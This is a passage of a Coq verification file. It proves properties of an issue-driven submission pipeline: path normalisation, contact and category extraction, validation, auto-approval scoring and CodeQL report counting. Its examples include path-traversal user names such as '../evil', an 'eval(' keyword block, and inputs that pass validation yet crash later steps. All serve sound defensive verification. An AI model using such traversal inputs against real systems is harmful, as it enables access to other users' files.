    base is dropped, and a user name with [..] segments leaves the base
    directory or names the directory of another author. *)
Example userDir_normalized :
  pathJoin "./collections" "octocat" = "collections/octocat" /\
  pathJoin "collections" "../evil" = "evil" /\
  pathJoin "collections" "x/../victim" = pathJoin "collections" "victim" /\
  profilePath (pathJoin "collections" "x/../victim") = "collections/victim/profile.json".
Proof. vm_compute. repeat split. Qed.

End MaterializerInvariantsExamples.

(** ** The issue parser, and what it hands to the other scripts *)

Section ExtractorInvariants.
Import Js Json Parser Organizer Checks.
Variable JSON_parse : string -> option json.

Lemma removeAtAndSpaces_kept (s : string) :
  allChars isKeptChar (removeAtAndSpaces s) = true.
Proof.
  induction s as [|c s IH]; cbn [removeAtAndSpaces]; [reflexivity|].
  destruct (Ascii.eqb c "@"%char || isSpace c) eqn:E; [exact IH|].
  cbn [allChars]. unfold isKeptChar at 1. now rewrite E, IH.
Qed.

Lemma lowerChar_handle (c : ascii) :
  isKeptChar c = true -> isHandleChar (lowerChar c) = true.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; intros H;
    try discriminate H; reflexivity.
Qed.

Lemma toLowerCase_handle (s : string) :
  allChars isKeptChar s = true -> allChars isHandleChar (toLowerCase s) = true.
Proof.
  induction s as [|c s IH]; cbn [allChars toLowerCase]; [reflexivity|].
  intros H. apply andb_true_iff in H. destruct H as [Hc Hs].
  now rewrite (lowerChar_handle c Hc), IH.
Qed.

(** X9.  The user name [extractContactInfo] answers, which names the
    author's directory, holds no [@], no white space and no upper-case
    letter, whatever the issue body. *)
Theorem extractContactInfo_clean (body : string) :
  allChars isHandleChar (extractContactInfo body) = true.
Proof.
  unfold extractContactInfo. cbv zeta.
  destruct (_ && _); [|reflexivity].
  apply toLowerCase_handle, removeAtAndSpaces_kept.
Qed.

(** X10.  [normalizeCategory] always answers one of the ten supported
    categories, and answers a supported category itself when given it, as
    written or in lower case. *)
Theorem normalizeCategory_supported :
  (forall category, In (normalizeCategory category) supportedCategories) /\
  (forall category, In category supportedCategories ->
     normalizeCategory category = category /\
     normalizeCategory (toLowerCase category) = category).
Proof.
  split.
  - intros category. unfold normalizeCategory.
    destruct (isEmpty category); [cbn; tauto|]. cbv zeta.
    destruct (find _ supportedCategories) as [found|] eqn:E; [|cbn; tauto].
    apply find_some in E. destruct E as [E _].
    unfold orElse. destruct (isEmpty found); [cbn; tauto|exact E].
  - intros category H. cbn [In supportedCategories] in H.
    repeat (destruct H as [<-|H]; [split; vm_compute; reflexivity|]). destruct H.
Qed.

Lemma push_not_nil {A : Type} (l : list A) (x : A) : push l x <> [].
Proof. unfold push. destruct l; discriminate. Qed.

Lemma checkCommand_clean index command e w w' :
  checkCommand index command (e, w) = Ok ([], w') ->
  e = [] /\ acceptableCommand command.
Proof.
  unfold checkCommand, bind. cbn [fst snd].
  destruct (getProp command "name") as [cname|] eqn:En; [|discriminate].
  destruct (getProp command "code") as [ccode|] eqn:Ec; [|discriminate].
  destruct (truthyValue ccode) eqn:Tc; cbn [negb].
  - destruct ccode as [[| | |code| |]|]; try discriminate.
    destruct (includes (toLowerCase code) "eval(") eqn:Ev.
    + intros [= H _]. now apply push_not_nil in H.
    + destruct (truthyValue cname) eqn:Tn; cbn [negb].
      * intros [= -> _]. split; [reflexivity|]. split.
        -- destruct cname as [v|]; [|discriminate]. exists v. auto.
        -- exists code. split; [exact Ec|]. split; [|exact Ev].
           intros ->. discriminate.
      * intros [= H _]. now apply push_not_nil in H.
  - intros [= H _]. now apply push_not_nil in H.
Qed.

Lemma checkCommand_errors index command e w e' w' :
  checkCommand index command (e, w) = Ok (e', w') -> e' = [] -> e = [].
Proof.
  intros H ->. now apply checkCommand_clean in H.
Qed.

Lemma forEachCommand_clean : forall cs index e w w',
  forEachCommand index cs (e, w) = Ok ([], w') ->
  e = [] /\ Forall acceptableCommand cs.
Proof.
  induction cs as [|c cs IH]; intros index e w w'; cbn [forEachCommand].
  - intros [= -> _]. split; [reflexivity|constructor].
  - unfold bind. destruct (checkCommand index c (e, w)) as [[e1 w1]|] eqn:E1;
      [|discriminate].
    intros H. destruct (IH _ _ _ _ H) as [-> Hcs].
    apply checkCommand_clean in E1. destruct E1 as [-> Hc].
    split; [reflexivity|now constructor].
Qed.

Lemma length_zero_nil {A : Type} (l : list A) : (List.length l =? 0)%nat = true -> l = [].
Proof. destruct l; [reflexivity|discriminate]. Qed.

Lemma validateCollection_accepts issueData body v :
  validateCollection JSON_parse issueData body = Ok v ->
  valid v = true ->
  exists m cs,
    extractMetadata issueData body = Ok m /\
    extractCommands JSON_parse body = Ok cs /\
    Parser.name m <> "" /\ Parser.description m <> "" /\
    extractContactInfo body <> "" /\
    cs <> [] /\ Forall acceptableCommand cs /\
    Parser.errors v = [].
Proof.
  unfold validateCollection. cbv zeta. unfold bind at 1.
  destruct (extractMetadata issueData body) as [m|] eqn:Em; [|discriminate].
  unfold bind at 1.
  destruct (extractCommands JSON_parse body) as [cs|] eqn:Ec; [|discriminate].
  unfold bind at 1.
  match goal with
  | |- context [forEachCommand 0 cs (?e, _)] => set (e4 := e) in *
  end.
  match goal with
  | |- match ?x with _ => _ end = _ -> _ => destruct x as [[e1 w1]|] eqn:Est; [|discriminate]
  end.
  intros [= <-]. cbn [valid errors fst]. intros Hv. apply length_zero_nil in Hv. subst e1.
  exists m, cs. split; [reflexivity|]. split; [reflexivity|].
  assert (Hpre : e4 = [] /\ Forall acceptableCommand cs).
  { destruct (0 <? List.length cs)%nat eqn:Epos.
    - unfold bind in Est.
      destruct (forEachCommand 0 cs (e4, [])) as [[e2 w2]|] eqn:Ef; [|discriminate].
      cbn [fst snd] in Est. injection Est as He _. subst e2.
      now apply forEachCommand_clean in Ef.
    - injection Est as He _. split; [exact He|].
      apply Nat.ltb_ge in Epos. destruct cs; [constructor|cbn in Epos; lia]. }
  destruct Hpre as [Hpre Hcs]. unfold e4 in Hpre. clear Est e4.
  destruct (List.length cs =? 0)%nat eqn:El; [now apply push_not_nil in Hpre|].
  destruct (isEmpty (extractContactInfo body)) eqn:E3; [now apply push_not_nil in Hpre|].
  destruct (isEmpty (Parser.description m)) eqn:E2; [now apply push_not_nil in Hpre|].
  destruct (isEmpty (Parser.name m)) eqn:E1; [now apply push_not_nil in Hpre|].
  repeat split; try (now apply isEmpty_false); auto.
  intros ->. discriminate.
Qed.

(** X11.  A validation result that is [valid] vouches for the
    submission: a name, a description and a user name are present, there
    is at least one command, and every command has a truthy name and a
    non-empty string of code that does not contain [eval(] in any case;
    the error list is empty. *)
Theorem validateCollection_sound issueData body v :
  validateCollection JSON_parse issueData body = Ok v ->
  valid v = true ->
  exists m cs,
    extractMetadata issueData body = Ok m /\
    extractCommands JSON_parse body = Ok cs /\
    Parser.name m <> "" /\ Parser.description m <> "" /\
    extractContactInfo body <> "" /\
    cs <> [] /\ Forall acceptableCommand cs /\
    Parser.errors v = [].
Proof. exact (validateCollection_accepts issueData body v). Qed.

Lemma parseIssue_parts issueData c :
  parseIssue JSON_parse issueData = Ok c ->
  exists body,
    validateCollection JSON_parse issueData body = Ok (Parser.validation c) /\
    extractCommands JSON_parse body = Ok (Parser.commands c) /\
    Parser.contactInfo c = extractContactInfo body.
Proof.
  unfold parseIssue. cbv zeta.
  set (body := match Parser.body issueData with Some b => b | None => "" end).
  unfold bind.
  destruct (extractMetadata issueData body); [|discriminate].
  destruct (extractCommands JSON_parse body) as [cs|] eqn:Ec; [|discriminate].
  destruct (validateCollection JSON_parse issueData body) as [v|] eqn:Ev; [|discriminate].
  intros [= <-]. exists body. cbn. auto.
Qed.

Lemma getProp_defined command k v :
  getProp command k = Ok v -> forall k', exists v', getProp command k' = Ok v'.
Proof.
  destruct command; cbn; try discriminate; intros _ k'; eauto.
Qed.









Lemma validateCollection_valid issueData body v :
  validateCollection JSON_parse issueData body = Ok v ->
  valid v = (List.length (Parser.errors v) =? 0)%nat.
Proof.
  unfold validateCollection. cbv zeta. unfold bind.
  destruct (extractMetadata issueData body); [|discriminate].
  destruct (extractCommands JSON_parse body); [|discriminate].
  match goal with
  | |- match ?x with _ => _ end = _ -> _ => destruct x as [[e1 w1]|]; [|discriminate]
  end.
  now intros [= <-].
Qed.

Lemma calculateApprovalScore_first_reason d sec ai c :
  find Approval.condition
    (Approval.blockingConditions Approval.constructor
       (Approval.calculateWeightedScore Approval.constructor
          {| Approval.s_validation := orZero (Approval.validation d ?. Approval.score);
             Approval.s_security := orZero (sec ?. Approval.securityScore);
             Approval.s_aiSafety := orZero (ai ?. Approval.safetyScore) |})
       (Some d) sec ai) = Some c ->
  exists r,
    Approval.calculateApprovalScore Approval.constructor (Some d) sec ai = Ok r /\
    Approval.recommendation r = Approval.REJECT /\
    Approval.autoApprove r = false /\
    Approval.details_issues r = [Approval.reason c].
Proof.
  intros Hf. unfold Approval.calculateApprovalScore. cbv zeta.
  eexists. split; [reflexivity|].
  match goal with
  | |- context [Approval.determineApprovalStatus _ ?rep _ _ _] =>
      rewrite (determineApprovalStatus_blocked rep (Some d) sec ai c Hf)
  end.
  cbn. auto.
Qed.

(** X13.  A collection that [parseIssue] returns as not valid is rejected
    by [calculateApprovalScore] whatever the two analyzer reports say (or
    when they are missing): the decision is REJECT, auto-approval is off
    and the one recorded reason is the validation errors. *)
Theorem invalid_submission_rejected issueData c sec ai :
  parseIssue JSON_parse issueData = Ok c ->
  valid (Parser.validation c) = false ->
  exists r,
    Approval.calculateApprovalScore Approval.constructor (Some (asIssueData c)) sec ai
    = Ok r /\
    Approval.recommendation r = Approval.REJECT /\
    Approval.autoApprove r = false /\
    Approval.details_issues r = ["Validation errors detected"].
Proof.
  intros Hp Hv.
  destruct (parseIssue_parts _ _ Hp) as (body & Hval & _).
  rewrite (validateCollection_valid _ _ _ Hval) in Hv.
  destruct (Parser.errors (Parser.validation c)) as [|e es] eqn:Ee; [discriminate|].
  eapply (calculateApprovalScore_first_reason (asIssueData c) sec ai
            {| Approval.condition := true;
               Approval.reason := "Validation errors detected" |}).
  unfold Approval.blockingConditions, asIssueData. cbn [Approval.validation chain
    Approval.errors find Approval.condition]. rewrite Ee. reflexivity.
Qed.

End ExtractorInvariants.

Section ExtractorInvariantsExamples.
Import Js Json Parser Organizer ExtractorSpec MaterializerSpec Checks.

Lemma validateCollection_sound_witness :
  exists v,
    validateCollection sampleParse (sampleIssue "[3 commands]") (sampleBody "[3 commands]")
    = Ok v /\
    extractContactInfo (sampleBody "[3 commands]") <> "".
Proof.
  destruct (validateCollection sampleParse (sampleIssue "[3 commands]")
              (sampleBody "[3 commands]")) as [v|] eqn:E;
    [|vm_compute in E; discriminate E].
  assert (Hv : valid v = true) by (vm_compute in E; injection E as <-; reflexivity).
  destruct (validateCollection_sound sampleParse _ _ _ E Hv)
    as (m & cs & _ & _ & _ & _ & Hc & _).
  exists v. split; [reflexivity|exact Hc].
Defined.


(** The hypothesis on the names is needed: a name that is a number is
    truthy, which is all the validation asks, and cannot be lowered. *)
Example numeric_name_is_validated_but_not_organized :
  exists c,
    parseIssue numberedParse (sampleIssue "[1 command]") = Ok c /\
    valid (Parser.validation c) = true /\
    organizeCollection emptyStore c "collections" "2025-01-02T00:00:00Z"
    = Throw "name.toLowerCase is not a function".
Proof.
  eexists. split; [vm_compute; reflexivity|]. split; vm_compute; reflexivity.
Qed.

(** So is the hypothesis on the printed fields: an object with a property
    [toString] of its own is a truthy description, validation does not look
    at it, and the header of the command file cannot print it. *)
Example unprintable_description_is_validated_but_not_organized :
  exists c,
    parseIssue unprintableParse (sampleIssue "[1 command]") = Ok c /\
    valid (Parser.validation c) = true /\
    Forall stringName (Parser.commands c) /\
    organizeCollection emptyStore c "collections" "2025-01-02T00:00:00Z"
    = Throw "Cannot convert object to primitive value".
Proof.
  eexists. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  split; [|vm_compute; reflexivity].
  repeat constructor. eexists. reflexivity.
Qed.

Lemma invalid_submission_rejected_witness :
  exists c r,
    parseIssue sampleParse (sampleIssue "no json") = Ok c /\
    Approval.calculateApprovalScore Approval.constructor (Some (asIssueData c)) None None
    = Ok r /\
    Approval.recommendation r = Approval.REJECT.
Proof.
  destruct (parseIssue sampleParse (sampleIssue "no json")) as [c|] eqn:E;
    [|vm_compute in E; discriminate E].
  assert (Hv : valid (Parser.validation c) = false)
    by (vm_compute in E; injection E as <-; reflexivity).
  destruct (invalid_submission_rejected sampleParse _ c None None E Hv)
    as (r & Hr & Hrec & _).
  exists c, r. split; [reflexivity|]. split; [exact Hr|exact Hrec].
Defined.

End ExtractorInvariantsExamples.

(** ** The decision engine: what a report guarantees *)

Section DecisionInvariants.
Import Js Approval Policy.

(** The four ways out of [determineApprovalStatus]. *)
Lemma determineApprovalStatus_cases report d sec ai :
  let r := determineApprovalStatus constructor report d sec ai in
  let conditions := blockingConditions constructor (overallScore report) d sec ai in
  (exists c, find condition conditions = Some c /\
     r = set_outcome report false REJECT [reason c] []) \/
  (find condition conditions = None /\ 80 <= overallScore report /\
   (opt_ge (sec ?. securityScore) 80
    || (opt_ge (ai ?. safetyScore) 75
        && match ai ?. ai_autoApprove with Some true => true | _ => false end)) = true /\
   hasNoBlockingIssues sec ai = true /\
   exists a, r = set_outcome report true AUTO_APPROVE [] [a]) \/
  (find condition conditions = None /\ 60 <= overallScore report /\
   exists iss, r = set_outcome report false MANUAL_REVIEW iss [] /\
               (List.length iss <= 1)%nat) \/
  (find condition conditions = None /\ overallScore report < 60 /\
   exists reason, r = set_outcome report false REJECT [reason] []).
Proof.
  cbv zeta. unfold determineApprovalStatus.
  destruct (find condition _) as [c|] eqn:Ef; [left; eauto|right].
  cbn [constructor thresholds t_autoApprove t_manualReview].
  destruct (80 <=? overallScore report) eqn:E80.
  - apply Z.leb_le in E80.
    destruct (opt_ge (sec ?. securityScore) 80
              || (opt_ge (ai ?. safetyScore) 75
                  && match ai ?. ai_autoApprove with Some true => true | _ => false end))
      eqn:Ec; cbn [andb].
    + destruct (hasNoBlockingIssues sec ai) eqn:Eh.
      * left. repeat split; auto. eauto.
      * right. left. repeat split; [lia|]. eexists. split; [reflexivity|cbn; lia].
    + right. left. repeat split; [lia|]. eexists. split; [reflexivity|cbn; lia].
  - apply Z.leb_gt in E80. destruct (60 <=? overallScore report) eqn:E60.
    + apply Z.leb_le in E60. right. left. repeat split; auto.
      eexists. split; [reflexivity|cbn; lia].
    + apply Z.leb_gt in E60. right. right. repeat split; auto. eauto.
Qed.

Lemma calculateApprovalScore_report d sec ai r :
  calculateApprovalScore constructor d sec ai = Ok r ->
  exists v report,
    d = Some v /\
    r = generateRecommendations (determineApprovalStatus constructor report d sec ai) /\
    overallScore report
    = calculateWeightedScore constructor
        {| s_validation := orZero (validation v ?. score);
           s_security := orZero (sec ?. securityScore);
           s_aiSafety := orZero (ai ?. safetyScore) |} /\
    details_issues report = [].
Proof.
  unfold calculateApprovalScore. destruct d as [v|]; [|discriminate].
  cbv zeta. intros [= <-]. eexists. eexists. split; [reflexivity|].
  split; [reflexivity|]. split; reflexivity.
Qed.

(** X14.  In every report [calculateApprovalScore] returns, the
    [autoApprove] flag is set exactly when the decision is AUTO_APPROVE; a
    decision is always taken; an AUTO_APPROVE report lists no issue, a
    REJECT report exactly one (its reason), and no report more than one;
    at least one recommendation is attached. *)
Theorem decision_report_consistent d sec ai r :
  calculateApprovalScore constructor d sec ai = Ok r ->
  (autoApprove r = true <-> recommendation r = AUTO_APPROVE) /\
  recommendation r <> Unset /\
  (recommendation r = AUTO_APPROVE -> details_issues r = []) /\
  (recommendation r = REJECT -> exists reason, details_issues r = [reason]) /\
  (List.length (details_issues r) <= 1)%nat /\
  details_recommendations r <> [].
Proof.
  intros H. destruct (calculateApprovalScore_report _ _ _ _ H)
    as (v & report & -> & -> & _ & Hi).
  destruct (determineApprovalStatus_cases report (Some v) sec ai)
    as [(c & _ & ->)|[(_ & _ & _ & _ & a & ->)|[(_ & _ & iss & -> & Hl)|(_ & _ & reason & ->)]]];
    cbn [generateRecommendations set_outcome autoApprove recommendation details_issues
         details_recommendations]; rewrite Hi; cbn [app List.length];
    (repeat split; try discriminate; try reflexivity; try lia; eauto;
     try (intros HH; discriminate HH);
     try (repeat match goal with
                 | |- context [if ?b then _ else _] => destruct b
                 end; now apply push_not_nil)).
Qed.

(** X15.  A report with [autoApprove] set was earned: the overall score
    is at least 80, no blocking predicate holds (no validation error, no
    CodeQL security issue, no CRITICAL AI issue, no CRITICAL risk level),
    an analyzer clears its confidence threshold, and the findings hold no
    CodeQL error and no HIGH or CRITICAL AI issue. *)
Theorem auto_approval_sound d sec ai r :
  calculateApprovalScore constructor d sec ai = Ok r ->
  autoApprove r = true ->
  recommendation r = AUTO_APPROVE /\
  80 <= overallScore r /\
  ~ blocked (overallScore r) d sec ai /\
  clearsConfidence sec ai /\
  noHighOrCritical sec ai.
Proof.
  intros H. destruct (calculateApprovalScore_report _ _ _ _ H)
    as (v & report & -> & -> & _ & Hi).
  destruct (determineApprovalStatus_cases report (Some v) sec ai)
    as [(c & _ & ->)|[(Hf & H80 & Hc & Hh & a & ->)|[(_ & _ & iss & -> & Hl)|(_ & _ & reason & ->)]]];
    cbn [generateRecommendations set_outcome autoApprove recommendation overallScore];
    try discriminate.
  intros _. split; [reflexivity|]. split; [exact H80|]. split; [|split].
  - intros Hb. apply blocked_iff in Hb.
    destruct (existsb_find _ _ Hb) as (c & Hsome). congruence.
  - now apply confidence_condition.
  - now apply no_blocking_issues_condition.
Qed.

Lemma weighted_without_security (v a : Q) :
  (v <= 100)%Q -> (a <= 100)%Q ->
  calculateWeightedScore constructor
    {| s_validation := v; s_security := 0; s_aiSafety := a |} <= 50.
Proof.
  intros Hv Ha.
  change 50 with (calculateWeightedScore constructor
                    {| s_validation := 100; s_security := 0; s_aiSafety := 100 |}).
  destruct constructor_weights_nonneg as (Wv & Ws & Wa).
  apply weighted_score_monotone_pointwise; cbn [s_validation s_security s_aiSafety];
    auto using Qle_refl.
Qed.

Lemma weighted_without_ai (v s : Q) :
  (v <= 100)%Q -> (s <= 100)%Q ->
  calculateWeightedScore constructor
    {| s_validation := v; s_security := s; s_aiSafety := 0 |} <= 70.
Proof.
  intros Hv Hs.
  change 70 with (calculateWeightedScore constructor
                    {| s_validation := 100; s_security := 100; s_aiSafety := 0 |}).
  destruct constructor_weights_nonneg as (Wv & Ws & Wa).
  apply weighted_score_monotone_pointwise; cbn [s_validation s_security s_aiSafety];
    auto using Qle_refl.
Qed.

(** X16.  With scores of at most 100, a submission whose CodeQL report is
    missing is always rejected (its overall score, computed in doubles,
    cannot exceed the 50 of the scores 100, 0 and 100), and one whose AI
    report is missing is never auto-approved (its overall score cannot
    exceed the 70 of the scores 100, 100 and 0). *)
Theorem missing_analyzer_report d sec ai r :
  calculateApprovalScore constructor (Some d) sec ai = Ok r ->
  (orZero (validation d ?. score) <= 100)%Q ->
  (orZero (sec ?. securityScore) <= 100)%Q ->
  (orZero (ai ?. safetyScore) <= 100)%Q ->
  (sec = None -> recommendation r = REJECT) /\
  (ai = None -> recommendation r <> AUTO_APPROVE).
Proof.
  intros H Hv Hs Ha. destruct (calculateApprovalScore_report _ _ _ _ H)
    as (v & report & [= <-] & -> & Ho & _).
  split.
  - intros ->. cbn [chain orZero] in Ho.
    pose proof (weighted_without_security _ _ Hv Ha) as Hle. rewrite <- Ho in Hle.
    destruct (determineApprovalStatus_cases report (Some d) None ai)
      as [(c & _ & ->)|[(_ & H80 & _)|[(_ & H60 & _)|(_ & _ & reason & ->)]]];
      try lia; reflexivity.
  - intros ->. cbn [chain orZero] in Ho.
    pose proof (weighted_without_ai _ _ Hv Hs) as Hle. rewrite <- Ho in Hle.
    destruct (determineApprovalStatus_cases report (Some d) sec None)
      as [(c & _ & ->)|[(_ & H80 & _)|[(_ & _ & iss & -> & _)|(_ & _ & reason & ->)]]];
      try lia; discriminate.
Qed.

End DecisionInvariants.

Section DecisionInvariantsExamples.
Import Js Approval Policy ApprovalSamples Checks.

Lemma decision_report_consistent_witness :
  exists r,
    calculateApprovalScore constructor (sample_issueData []) sampleSecurityReport
      (sample_ai "LOW" true) = Ok r /\
    recommendation r <> Unset.
Proof.
  destruct (calculateApprovalScore constructor (sample_issueData []) sampleSecurityReport
              (sample_ai "LOW" true)) as [r|] eqn:E;
    [|vm_compute in E; discriminate E].
  exists r. split; [reflexivity|].
  exact (proj1 (proj2 (decision_report_consistent _ _ _ _ E))).
Defined.

Lemma auto_approval_sound_witness :
  exists r,
    calculateApprovalScore constructor (sample_issueData []) sampleSecurityReport
      (sample_ai "LOW" true) = Ok r /\
    autoApprove r = true /\
    80 <= overallScore r.
Proof.
  destruct (calculateApprovalScore constructor (sample_issueData []) sampleSecurityReport
              (sample_ai "LOW" true)) as [r|] eqn:E;
    [|vm_compute in E; discriminate E].
  assert (Ha : autoApprove r = true)
    by (vm_compute in E; injection E as <-; reflexivity).
  exists r. split; [reflexivity|]. split; [exact Ha|].
  exact (proj1 (proj2 (auto_approval_sound _ _ _ _ E Ha))).
Defined.

Lemma missing_analyzer_report_witness :
  exists r,
    calculateApprovalScore constructor
      (Some {| validation :=
                 Some {| errors := Some []; warnings := Some []; score := Some 75%Q |} |})
      None (sample_ai "LOW" true) = Ok r /\
    recommendation r = REJECT.
Proof.
  destruct (calculateApprovalScore constructor
      (Some {| validation :=
                 Some {| errors := Some []; warnings := Some []; score := Some 75%Q |} |})
      None (sample_ai "LOW" true)) as [r|] eqn:E;
    [|vm_compute in E; discriminate E].
  exists r. split; [reflexivity|].
  refine (proj1 (missing_analyzer_report _ None (sample_ai "LOW" true) r E _ _ _) eq_refl);
    vm_compute; discriminate.
Defined.

End DecisionInvariantsExamples.

(** ** The CodeQL results processor *)

Section CodeQLProcessor.
Import Js CodeQL Checks.

Lemma countIssues_push p l i :
  countIssues p (push l i) = countIssues p l + (if p i then 1 else 0).
Proof.
  unfold countIssues, push. rewrite filter_app, length_app. cbn [filter].
  destruct (p i); cbn [List.length]; lia.
Qed.

Lemma determineCategory_known result rule :
  In (determineCategory result rule) knownCategories.
Proof.
  unfold determineCategory, knownCategories.
  destruct (rule ?. rule_properties ?. rule_tags) as [tags|]; [|cbn; tauto].
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b
         end; cbn; tauto.
Qed.

Lemma addResult_settled run report result :
  settled report -> settled (addResult run report result).
Proof.
  intros [(H1 & H2 & H3 & H4 & H5) Hk]. unfold addResult.
  destruct (processResult result run) as [issue|] eqn:Ep; [|split; [repeat split|]; assumption].
  split.
  - unfold counted. cbn [summary issues]. rewrite !countIssues_push.
    unfold push at 1. rewrite length_app. cbn [List.length].
    unfold countIssue, hasSeverity, hasCategory in *.
    destruct (String.eqb (severity issue) "error") eqn:E1;
      [apply String.eqb_eq in E1; rewrite E1; cbn [String.eqb Ascii.eqb Bool.eqb andb]|];
    [|destruct (String.eqb (severity issue) "warning") eqn:E2;
        [apply String.eqb_eq in E2; rewrite E2; cbn [String.eqb Ascii.eqb Bool.eqb andb]|];
      [|destruct (String.eqb (severity issue) "note") eqn:E3]];
    destruct (String.eqb (category issue) "security");
    cbn [totalIssues securityIssues errorCount warningCount noteCount];
    rewrite H1, H2, H3, H4, H5; repeat split; lia.
  - cbn [issues]. unfold push. apply Forall_app. split; [exact Hk|].
    constructor; [|constructor].
    unfold processResult in Ep. destruct (ruleId result) as [i|]; [|discriminate].
    destruct (_ || _); [discriminate|]. injection Ep as <-. cbn [category].
    apply determineCategory_known.
Qed.

Lemma processRun_settled run report : settled report -> settled (processRun report run).
Proof.
  unfold processRun. destruct (results run) as [rs|]; [|auto].
  revert report. induction rs as [|r rs IH]; intros report H; cbn [fold_left]; [exact H|].
  apply IH. now apply addResult_settled.
Qed.

Lemma processRuns_settled rs : forall report,
  settled report -> settled (fold_left processRun rs report).
Proof.
  induction rs as [|r rs IH]; intros report H; cbn [fold_left]; [exact H|].
  apply IH. now apply processRun_settled.
Qed.

Lemma collected_settled sarif now : settled (collected sarif now).
Proof.
  unfold collected. cbv zeta.
  assert (H0 : settled
                 {| securityScore := Num 100; riskLevel := "LOW";
                    summary := {| totalIssues := 0; securityIssues := 0; errorCount := 0;
                                  warningCount := 0; noteCount := 0 |};
                    issues := []; recommendations := []; processedAt := now |}).
  { split; [repeat split|constructor]. }
  destruct (runs sarif) as [rs|]; [now apply processRuns_settled|exact H0].
Qed.

Lemma processResults_parts sarif now :
  let report := processResults constructor sarif now in
  let before := collected sarif now in
  summary report = summary before /\
  issues report = issues before /\
  securityScore report = calculateSecurityScore constructor before /\
  riskLevel report = determineRiskLevel (securityScore report).
Proof. cbv zeta. unfold processResults, collected. cbn. auto. Qed.

Lemma processResults_counted sarif now :
  counted (processResults constructor sarif now).
Proof.
  destruct (processResults_parts sarif now) as (Hs & Hi & _).
  destruct (collected_settled sarif now) as [Hc _].
  unfold counted in *. cbv zeta in *. rewrite Hs, Hi. exact Hc.
Qed.

Lemma readOr_positive table key fallback q :
  Forall (fun entry => (0 < snd entry)%Q) table -> (0 < fallback)%Q ->
  readOr table key fallback = Some q -> (0 < q)%Q.
Proof.
  intros Ht Hf. unfold readOr.
  destruct (find _ table) as [entry|] eqn:E.
  - apply find_some in E. destruct E as [E _].
    rewrite Forall_forall in Ht. specialize (Ht _ E).
    intros [= <-]. now destruct (Qeq_bool (snd entry) 0).
  - destruct (existsb _ _); [discriminate|]. now intros [= <-].
Qed.

Lemma constructor_tables_positive :
  Forall (fun entry => (0 < snd entry)%Q) (securitySeverities constructor) /\
  Forall (fun entry => (0 < snd entry)%Q) (ruleCategories constructor).
Proof. split; repeat constructor. Qed.

Lemma deduct_lowers a issue q :
  deduct constructor (Some a) issue = Some q -> (q <= a)%Q.
Proof.
  unfold deduct.
  destruct (readOr (securitySeverities constructor) (severity issue) 10) as [d|] eqn:Ed;
    [|discriminate].
  destruct (readOr (ruleCategories constructor) (category issue) 10) as [m|] eqn:Em;
    [|discriminate].
  intros [= <-].
  apply readOr_positive in Ed; [|apply constructor_tables_positive|reflexivity].
  apply readOr_positive in Em; [|apply constructor_tables_positive|reflexivity].
  assert (H : (0 <= d * m / 100)%Q).
  { apply Qmult_le_0_compat; [|discriminate].
    apply Qmult_le_0_compat; now apply Qlt_le_weak. }
  set (x := (d * m / 100)%Q) in *. clearbody x. lra.
Qed.

Lemma fold_deduct_NaN l : fold_left (deduct constructor) l None = None.
Proof. induction l as [|i l IH]; [reflexivity|exact IH]. Qed.

Lemma fold_deduct_lowers l : forall a q,
  fold_left (deduct constructor) l (Some a) = Some q -> (q <= a)%Q.
Proof.
  induction l as [|i l IH]; intros a q; cbn [fold_left].
  - intros [= <-]. apply Qle_refl.
  - destruct (deduct constructor (Some a) i) as [a'|] eqn:E.
    + intros H. apply IH in H. apply deduct_lowers in E. lra.
    + now rewrite fold_deduct_NaN.
Qed.

Lemma deduct_NaN_iff a issue :
  In (category issue) knownCategories ->
  (deduct constructor (Some a) issue = None <-> inheritedSeverity issue = true).
Proof.
  intros Hk. unfold deduct, inheritedSeverity.
  assert (Hm : exists m, readOr (ruleCategories constructor) (category issue) 10 = Some m).
  { cbn [In knownCategories] in Hk.
    repeat (destruct Hk as [<-|Hk]; [vm_compute; eauto|]). destruct Hk. }
  destruct Hm as [m ->].
  unfold readOr. cbn [securitySeverities constructor find fst snd].
  destruct (String.eqb "error" (severity issue)) eqn:E1;
    [apply String.eqb_eq in E1; rewrite <- E1; vm_compute; split; discriminate|].
  destruct (String.eqb "warning" (severity issue)) eqn:E2;
    [apply String.eqb_eq in E2; rewrite <- E2; vm_compute; split; discriminate|].
  destruct (String.eqb "note" (severity issue)) eqn:E3;
    [apply String.eqb_eq in E3; rewrite <- E3; vm_compute; split; discriminate|].
  destruct (existsb _ objectPrototypeKeys); split; intros H; try reflexivity;
    discriminate H.
Qed.

Lemma fold_deduct_NaN_iff l : forall a,
  Forall (fun i => In (category i) knownCategories) l ->
  (fold_left (deduct constructor) l (Some a) = None
   <-> existsb inheritedSeverity l = true).
Proof.
  induction l as [|i l IH]; intros a Hk; cbn [fold_left existsb].
  - split; discriminate.
  - inversion Hk as [|? ? Hi Hl]; subst.
    pose proof (deduct_NaN_iff a i Hi) as Hd.
    destruct (deduct constructor (Some a) i) as [a'|].
    + destruct (inheritedSeverity i).
      * destruct Hd as [_ Hd]. discriminate (Hd eq_refl).
      * rewrite orb_false_l. now apply IH.
    + rewrite fold_deduct_NaN. rewrite (proj1 Hd eq_refl). tauto.
Qed.

Lemma Math_round_integer (n : Z) : Math_round (inject_Z n) = n.
Proof.
  unfold Math_round.
  assert (H : (inject_Z n <= inject_Z n + (1 # 2))%Q) by lra.
  apply Qfloor_resp_le in H. rewrite Qfloor_Z in H.
  assert (H' : (inject_Z n + (1 # 2) < inject_Z (n + 1))%Q).
  { rewrite inject_Z_plus. change (inject_Z 1) with 1%Q. lra. }
  pose proof (Qfloor_le (inject_Z n + (1 # 2))) as Hf.
  assert (Hlt : (inject_Z (Qfloor (inject_Z n + (1 # 2))) < inject_Z (n + 1))%Q) by lra.
  rewrite <- Zlt_Qlt in Hlt. lia.
Qed.

(** X17.  In the report of [processResults] the counters agree with the
    issue list: [totalIssues] is its length, [securityIssues] the number
    of issues of category security, and [errorCount], [warningCount] and
    [noteCount] the numbers of issues of those severities. *)
Theorem processResults_counters sarif now :
  counted (processResults constructor sarif now).
Proof. exact (processResults_counted sarif now). Qed.

(** X18.  The security score of the report is an integer between 0 and
    100, except that it is NaN exactly when the severity of an issue names
    a member of [Object.prototype]; the risk level is the level of that
    score, CRITICAL for NaN. *)
Theorem processResults_score_range sarif now :
  let report := processResults constructor sarif now in
  (securityScore report = NaN <-> existsb inheritedSeverity (issues report) = true) /\
